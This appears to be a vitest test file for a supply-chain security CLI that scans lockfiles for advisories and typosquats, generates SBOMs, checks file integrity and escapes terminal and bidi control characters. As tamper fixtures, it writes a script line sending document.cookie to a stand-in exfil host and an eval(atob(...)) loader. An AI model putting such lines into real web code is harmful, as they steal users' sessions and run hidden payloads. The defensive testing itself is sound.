import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { runCli } from '../../support/cli';
import { cliPath, tempDataDir } from '../../support/consoleServer';

const fixtures = path.resolve('test', 'fixtures', 'supply', 'cli');
const osvFolder = path.join(fixtures, 'osv');
const baselineLock = path.join(fixtures, 'baseline', 'package-lock.json');
const currentLock = path.join(fixtures, 'current', 'package-lock.json');

const work = tempDataDir('firebreak-supply-cli-');
const dataDir = path.join(work, 'data');
const cli = (...args: string[]) => runCli(dataDir, args);
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

describe('firebreak scan deps', () => {
  it('exits 1 with the findings grouped by severity, each with the version that fixes it', () => {
    const run = cli('scan', 'deps', currentLock, '--db', osvFolder);
    expect(run.status).toBe(1);
    const out = run.stdout;
    expect(out).toMatch(/^3 ADVISORIES IN 3 PACKAGES/);
    // Critical before high, each group a table with FIXED IN.
    expect(out.indexOf('CRITICAL (1)')).toBeGreaterThan(0);
    expect(out.indexOf('HIGH (2)')).toBeGreaterThan(out.indexOf('CRITICAL (1)'));
    expect(out).toMatch(/npm minimist\s+1\.2\.5\s+1\.2\.6\s+GHSA-xvch-5gv4-984h\s+CVE-2021-44906\s+direct/);
    expect(out).toMatch(/npm lodash\s+4\.17\.20\s+4\.17\.21\s+GHSA-35jh-r3h4-6jhm/);
    expect(out).toMatch(/npm qs\s+6\.10\.2\s+6\.10\.3\s+GHSA-hrpp-h998-j3pp\s+CVE-2022-24999\s+body-parser > qs/);
    // The withdrawn record about left-pad never matches.
    expect(out).not.toContain('left-pad');
    expect(out).toContain('Audited 6 packages in 1 lockfile');
  });

  it('prints the envelope with --json, and exits 0 on a lockfile no advisory affects', () => {
    const run = cli('scan', 'deps', baselineLock, '--db', osvFolder, '--json');
    expect(run.status).toBe(0);
    expect(run.json).toMatchObject({ ok: true, value: { findings: [], packages: 4, checkId: null, database: { source: 'direct' } } });
    const findings = cli('scan', 'deps', currentLock, '--db', osvFolder, '--json');
    expect(findings.status).toBe(1);
    expect((findings.json as { value: { findings: { advisory: string; aliases: string[]; fixed: string }[] } }).value.findings[1]).toMatchObject({ advisory: 'GHSA-35jh-r3h4-6jhm', aliases: ['CVE-2021-23337'], fixed: '4.17.21' });
  });

  it('exits 2 naming a lockfile it cannot read, and on an empty advisory database', () => {
    const missing = path.join(work, 'nowhere', 'package-lock.json');
    const run = cli('scan', 'deps', currentLock, missing, '--db', osvFolder, '--json');
    expect(run.status).toBe(2);
    expect(run.json).toMatchObject({ ok: false, error: { message: expect.stringContaining(missing) } });
    const empty = cli('scan', 'deps', currentLock);
    expect(empty.status).toBe(2);
    expect(empty.stdout).toBe('');
    expect(empty.stderr).toMatch(/^firebreak: the advisory database is empty/);
  });

  it('audits against advisories imported once, and keeps the audit on an incident', () => {
    const imported = cli('advisories', 'import', osvFolder, '--json');
    expect(imported.status).toBe(0);
    expect(imported.json).toMatchObject({ ok: true, value: { imported: 3, withdrawn: 1, rejectedCount: 0 } });
    expect(cli('advisories', 'status').stdout).toMatch(/^4 advisories held \(1 withdrawn, never matched\): npm 4/);
    const incident = (cli('incident', 'declare', '--title', 'lodash downgraded', '--severity', 'P1', '--json').json as { value: { id: string } }).value.id;
    const run = cli('scan', 'deps', currentLock, '--incident', incident);
    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(/kept as SC-[0-9a-f]{8} on the incident/);
    expect(run.stdout).toMatch(/against [34] advisories of the imported database \(last import \d{4}-\d\d-\d\d \d\d:\d\d UTC\)/);
  });
});

describe('firebreak scan lockdiff', () => {
  it('flags the changed resolved host and the added look-alike name, with reasons, and exits 1', () => {
    const run = cli('scan', 'lockdiff', baselineLock, currentLock);
    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(/SUSPICIONS: LOOK AT THESE FIRST/);
    expect(run.stdout).toMatch(/resolved-host-changed\s+npm left-pad\s+1\.3\.0\s+.*npm\.evil\.example/);
    expect(run.stdout).toMatch(/typosquat\s+npm lodahs\s+1\.0\.0\s+.*lodash/);
    expect(run.stdout).toMatch(/^\+ npm lodahs 1\.0\.0$/m);
    expect(run.stdout).toMatch(/^\+ npm minimist 1\.2\.5$/m);
    const json = cli('scan', 'lockdiff', baselineLock, currentLock, '--json');
    // lodash went from 4.17.21 down to 4.17.20: the line says so exactly when the diff suspects the downgrade.
    const downgraded = (json.json as { value: { suspicions: { kind: string; name: string }[] } }).value.suspicions.some((suspicion) => suspicion.kind === 'version-downgraded' && suspicion.name === 'lodash');
    expect(run.stdout).toMatch(downgraded ? /^~ npm lodash 4\.17\.21 → 4\.17\.20 {2}\(version went down\)$/m : /^~ npm lodash 4\.17\.21 → 4\.17\.20$/m);
    const kinds = (json.json as { value: { suspicions: { kind: string; name: string }[] } }).value.suspicions.map((suspicion) => `${suspicion.kind} ${suspicion.name}`);
    expect(kinds).toEqual(expect.arrayContaining(['resolved-host-changed left-pad', 'typosquat lodahs']));
  });

  it('exits 0 when the current lockfile is the known-good one', () => {
    const run = cli('scan', 'lockdiff', baselineLock, baselineLock);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('Nothing suspicious');
  });

  it('prints a package name with a terminal escape or a bidi control visibly', () => {
    const dir = path.join(work, 'hostile');
    fs.mkdirSync(dir);
    const lock = JSON.parse(fs.readFileSync(baselineLock, 'utf8')) as { packages: Record<string, unknown> };
    lock.packages['node_modules/evil\u001b[2Jname\u202Eexe'] = { version: '1.0.0', resolved: 'https://registry.npmjs.org/evil/-/evil-1.0.0.tgz' };
    fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify(lock));
    const run = cli('scan', 'lockdiff', baselineLock, path.join(dir, 'package-lock.json'));
    expect(run.stdout).not.toContain('\u001b');
    expect(run.stdout).not.toContain('\u202E');
    expect(run.stdout).toContain('evil\\x1b[2Jname⟨RLO⟩exe');
  });
});

describe('firebreak sbom', () => {
  it('generates CycloneDX 1.5 with -o, and the diff of two SBOMs exits 1 naming what changed', () => {
    const before = path.join(work, 'sbom-before.json');
    const after = path.join(work, 'sbom-after.json');
    const written = cli('sbom', 'generate', baselineLock, '-o', before);
    expect(written.status).toBe(0);
    expect(written.stdout).toBe(`Wrote a CycloneDX 1.5 SBOM of 4 component(s) to ${before}\n`);
    expect(JSON.parse(fs.readFileSync(before, 'utf8'))).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.5' });
    expect(cli('sbom', 'generate', currentLock, '-o', after).status).toBe(0);
    const diff = cli('sbom', 'diff', before, after);
    expect(diff.status).toBe(1);
    expect(diff.stdout).toMatch(/^\+ .*lodahs 1\.0\.0$/m);
    expect(diff.stdout).toMatch(/^~ .*lodash 4\.17\.21 → 4\.17\.20$/m);
    expect(cli('sbom', 'diff', before, before).status).toBe(0);
    const printed = cli('sbom', 'generate', currentLock);
    expect(JSON.parse(printed.stdout)).toMatchObject({ specVersion: '1.5', components: expect.any(Array) });
  });
});

describe('firebreak integrity', () => {
  it('snapshots a folder, then reports the changed, added and removed files with exit 1', () => {
    const dir = path.join(work, 'dist');
    fs.mkdirSync(path.join(dir, 'js'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'index.html'), '<script src="js/app.js"></script>\n');
    fs.writeFileSync(path.join(dir, 'js', 'app.js'), 'console.log("build 41")\n');
    fs.writeFileSync(path.join(dir, 'robots.txt'), 'User-agent: *\n');
    const baseline = path.join(work, 'dist-baseline.json');
    const snapshot = cli('integrity', 'snapshot', dir, '-o', baseline);
    expect(snapshot.status).toBe(0);
    expect(snapshot.stdout).toContain(`Wrote the baseline of 3 file(s) under ${dir} to ${baseline}`);
    expect(cli('integrity', 'check', dir, baseline).status).toBe(0);

    fs.writeFileSync(path.join(dir, 'js', 'app.js'), 'console.log("build 41");fetch("https://exfil.example/"+document.cookie)\n');
    fs.writeFileSync(path.join(dir, 'js', 'loader.js'), 'eval(atob("..."))\n');
    fs.rmSync(path.join(dir, 'robots.txt'));
    const check = cli('integrity', 'check', dir, baseline);
    expect(check.status).toBe(1);
    expect(check.stdout).toMatch(/^1 CHANGED, 1 ADDED, 1 REMOVED since the baseline/);
    expect(check.stdout).toMatch(/^~ js\/app\.js {2}sha256 [0-9a-f]{16}… → [0-9a-f]{16}…$/m);
    expect(check.stdout).toMatch(/^\+ js\/loader\.js/m);
    expect(check.stdout).toMatch(/^- robots\.txt/m);
    const json = cli('integrity', 'check', dir, baseline, '--json');
    expect(json.json).toMatchObject({ ok: true, value: { changed: [{ path: 'js/app.js' }], added: [{ path: 'js/loader.js' }], removed: [{ path: 'robots.txt' }], unchanged: 1 } });
  });

  it('exits 2 on a baseline that is not one', () => {
    const bogus = path.join(work, 'not-a-baseline.json');
    fs.writeFileSync(bogus, '{"hello": "world"}');
    const run = cli('integrity', 'check', work, bogus, '--json');
    expect(run.status).toBe(2);
    expect(run.json).toMatchObject({ ok: false, error: { code: 'invalid-input', message: expect.stringContaining(bogus) } });
  });
});

describe('paths given to the supply commands', () => {
  it('are read from the folder the command runs in, and a file already at -o is left as it was', () => {
    const dir = path.join(work, 'relative');
    fs.mkdirSync(dir);
    fs.copyFileSync(currentLock, path.join(dir, 'package-lock.json'));
    const env = { ...process.env, FIREBREAK_DATA_DIR: dataDir };
    const run = (...args: string[]) => spawnSync(process.execPath, [cliPath, ...args], { cwd: dir, env, encoding: 'utf8' });
    const written = run('sbom', 'generate', 'package-lock.json', '-o', 'sbom.json');
    expect(written.stderr).toBe('');
    expect(written.stdout).toBe(`Wrote a CycloneDX 1.5 SBOM of 6 component(s) to ${path.join(dir, 'sbom.json')}\n`);
    const sbom = fs.readFileSync(path.join(dir, 'sbom.json'), 'utf8');
    const again = run('sbom', 'generate', 'package-lock.json', '-o', 'sbom.json');
    expect(again.status).toBe(2);
    expect(again.stderr).toContain(`${path.join(dir, 'sbom.json')} already exists`);
    expect(fs.readFileSync(path.join(dir, 'sbom.json'), 'utf8')).toBe(sbom);
    const over = run('sbom', 'generate', 'package-lock.json', '-o', './package-lock.json');
    expect(over.status).toBe(2);
    expect(over.stderr).toContain('the input this SBOM is made from');
  });
});

describe('errors on stderr, for every command', () => {
  it('show a bidi control from a file name visibly instead of letting it reorder the line', () => {
    // Paths with control characters are refused at the boundary; bidi controls are valid text and reach the message.
    for (const args of [['evidence', 'verify', '/nope/report\u202Etxt.exe'], ['scan', 'logs', '/nope/report\u202Etxt.exe'], ['sbom', 'diff', '/nope/report\u202Etxt.exe', '/nope/b.json']]) {
      const run = cli(...args);
      expect(run.status).toBe(2);
      expect(run.stderr).not.toContain('\u202E');
      expect(run.stderr).toContain('/nope/report⟨RLO⟩txt.exe');
    }
  });

  it('show escapes and bidi controls visibly when the argument parser echoes an unknown option', () => {
    const run = cli('incident', 'list', '--all\u202E\u001b[2J');
    expect(run.status).toBe(2);
    expect(run.stderr).not.toContain('\u202E');
    expect(run.stderr).not.toContain('\u001b');
    expect(run.stderr).toContain("unknown option '--all⟨RLO⟩\\x1b[2J'");
  });
});
